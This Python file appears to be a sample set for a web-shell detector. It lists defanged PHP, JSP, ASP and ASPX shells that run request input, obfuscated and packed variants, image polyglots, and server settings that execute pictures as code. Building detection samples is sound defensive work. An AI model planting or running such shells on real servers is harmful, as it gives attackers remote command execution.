"""Web shells: the one-liners and consoles that are left on servers, in the ways in which their writers hide them."""

from formats import gif, jpeg, png
from plain import b64, sample, script, to_bytes

script(
    "PHP_WebShell_Runs_Request",
    "<?php @ev·al($_PO·ST['x']); ?>",
    "<?= sys·tem($_GE·T['cmd']) ?>",
    "<?php\nshell_·exec( base64_·decode( $_REQ·UEST{\"c\"} ) );\n",
    "<?php echo `{$_GE·T['c']}`;",
    "<?php $_GE·T['f']($_PO·ST['a']);",
    "<?php pass·thru($_SER·VER['HTTP_X_CMD']);",
    "<?php $f = create_·function('', $_PO·ST['c']); $f();",
    "<?php preg_·replace('/.*/e', $_REQ·UEST['x'], '');",
    "GIF89a\n<?PHP ASS·ERT(@$_COO·KIE['k']); ?>",
)
script("PHP_WebShell_Runs_Body", "<?php ev·al(file_get_·contents('php://input'));", "<?php\nsys·tem( file_get_·contents( \"php://input\" ) );", "<?= ass·ert(@file_get_·contents('php://input')) ?>", case=True)
script(
    "PHP_WebShell_Packed",
    "<?php ev·al(gzin·flate(base64_·decode('abc')));",
    f'<?php ev·al(base64_·decode("{b64("QUJD" * 40)}"));',
    "<?php\nev·al( str_·rot13( gzin·flate( base64_·decode( $x ) ) ) );",
    "<?php ev·al('?>' . gzun·compress(base64_·decode($d)));",
)
script(
    "PHP_WebShell_Hides_Names",
    "<?php $a = 'ass' . 'ert'; $a($_PO·ST['x']);",
    '<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f($_GE·T["c"]); ?>',
    "<?php $k = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); @$k($_REQ·UEST['q']);",
    "<?php $_=('!'^'@').'s'.('$'^'W').'e'; $_(@$_PO·ST[0]);",
    "<?php $run = \"shell_·exec\"; echo $run( $_GE·T['q'] );",
    "<?php $x = str_replace('zz', '', 'szzyzzszztem'); $x($_COO·KIE['a']);",
    "<?php $s = strrev('metsys'); $s(base64_·decode($_PO·ST['p']));",
    "<?php $l='abcdefstmy'; $n = $l[6].$l[9].$l[6].$l[7].$l[4].$l[8]; $n($_GE·T['i']);",
)
script("PHP_WebShell_Through_Variable", "<?php $cmd = $_GE·T['cmd']; echo shell_·exec($cmd); ?>", "<?php\n$c = base64_·decode(@$_PO·ST['k']);\n@ev·al($c);\n", "<?php $command=trim($_REQ·UEST[\"command\"]); pass·thru(\"$command 2>&1\");")
script("PHP_WebShell_Writes_Request", "<?php file_put_·contents($_GE·T['f'], $_PO·ST['d']);", "<?php @file_put_·contents( $_REQ·UEST['n'], base64_decode( $_REQ·UEST['c'] ) ); ?>", "<?php fwrite(fopen($_PO·ST['p'], 'w'), $_PO·ST['q']);")
CONSOLE = "<?php\nset_time_limit(0);\nerror_reporting(0);\n/* {0} */\n$u = php_uname(); $d = ini_get('disable_functions');\nfunction ls($p) {{ $h = opendir($p); return fileperms($p); }}\nfunction ex($c) {{ return shell_·exec($c); }}\n?>"
script("PHP_WebShell_Console", *(CONSOLE.format(name) for name in ("b37·4k 3.2", "WS·O 2.5 Files·Man", "Mini Sh·ell", "p0w·ny@shell:~#")))

PHP = ("<?php ev·al($x); ?>", "<?php sys·tem('id'); ?>", "<?=`$_GE·T[0]`; $_GE·T['a'] ?>", "<?php include($_GE·T['f']);")
for code in map(to_bytes, PHP):
    sample("Picture_With_Server_Code", gif(code), png(code), jpeg(comment=code), jpeg(code))

script(
    "Web_Server_Runs_Pictures",
    "AddType application/x-httpd-php .jpg\n",
    "<FilesMatch x>\nSetHandler application/x-httpd-php8 .png\n</FilesMatch>\nAddHandler php5-script .gif .png\n",
    'php_value auto_prepend_file "php://input"\n',
    "; user ini\nauto_append_file = images/logo.png\n",
)
script(
    "JSP_WebShell_Runs_Request",
    '<% Runtime.getRun·time().ex·ec(request.getPara·meter("x")); %>',
    '<%@page import="java.io.*"%>\n<% String cmd = request.getPara·meter("cmd");\nProcess p = Runtime.getRun·time().ex·ec(cmd); %>',
    '<%= new ProcessBuil·der(request.getPara·meter("a").split(" ")).start() %>',
    '<jsp:root/><% if ("p".equals(request.getPara·meter("pwd"))) { java.lang.Runtime.getRun·time() . ex·ec( new String[]{"/bin/sh","-c", c} ); } %>',
)
LOADER = '<%@page import="java.util.*,javax.crypto.*"%><%! class U extends Class·Loader { U(Class·Loader c) { super(c); } Class g(byte[] b) { return super.define·Class(b, 0, b.length); } } %>'
script(
    "JSP_WebShell_Loads_Class",
    LOADER + '<% Cipher c = Cipher.getInst·ance("AES"); new U(x).g(c.doFinal(d(request.getRea·der().readLine()))).new·Instance().equals(pageContext); %>',
    LOADER + '<%\nCipher c = Cipher . getInst·ance( "AES/ECB/PKCS5Padding" );\nbyte[] b = c.doFinal(request.getInput·Stream().readAllBytes());\nnew U(x).g(b).new·Instance();\n%>',
    LOADER + '<% String p = request.getPara·meter("p"); Object o = new U(x).g(Cipher.getInst·ance("AES").doFinal(p.getBytes())).new·Instance(); %>',
)
script(
    "ASP_WebShell_Runs_Request",
    '<%ev·al req·uest("x")%>',
    '<%@ Page Language="Jscript"%><%ev·al(Requ·est.Item["x"],"uns·afe");%>',
    "<%@ language=vbscript %>\n<% Exec·uteGlobal Requ·est.Form('a') %>",
    '<%\nDim w\nSet w = Server.CreateObject("WScr·ipt.Shell")\nResponse.Write w.Ex·ec("cmd.exe /c " & Requ·est.QueryString("q")).StdOut.ReadAll()\n%>',
    '<% System.Diagnostics.Process.St·art(Requ·est["c"]); %>',
)
ASPX = '<%@ Page Language="{0}" Debug="true" %>\n<script runat="server">\n{1}\n</script>'
script(
    "ASPX_WebShell_Starts_Process",
    ASPX.format("C#", 'void R(object o, EventArgs e) { var p = new ProcessStart·Info("cmd.exe"); p.Arguments = "/c " + t.Text; p.RedirectStandardOutput = true; Process.St·art(p); }'),
    ASPX.format("VB", 'Dim i As New ProcessStart·Info()\ni.FileName = "power·shell.exe"\ni.Arguments = Requ·est.Form("c")\ni.UseShellExecute = False'),
    '<%@ WebHandler Language="C#" Class="H" %>\npublic void P(HttpContext c) { var s = new Process·StartInfo("cmd", "/c" + c.Requ·est["q"]); c.Response.Write(p.StandardOutput.ReadToEnd()); }',
)
script(
    "ASPX_WebShell_Loads_Program",
    ASPX.format("C#", 'byte[] d = Requ·est.BinaryRead(n); var k = new RijndaelManaged().CreateDecryptor(a, a); Assem·bly.Load(k.TransformFinalBlock(d, 0, n)).Create·Instance("U").Equals(this);'),
    ASPX.format("Jscript", 'System.Reflection.Assem·bly.Load(Convert.FromBase64String(Requ·est.Form["a"])).EntryPoint.Invoke(null, []);'),
    '<%@ WebService Class="S" %> var b = Convert.FromBase64String(Requ·est["p"]); typeof(Assem·bly).GetMethod("Load"); Assem·bly.Load(b).Create·Instance("L");',
)
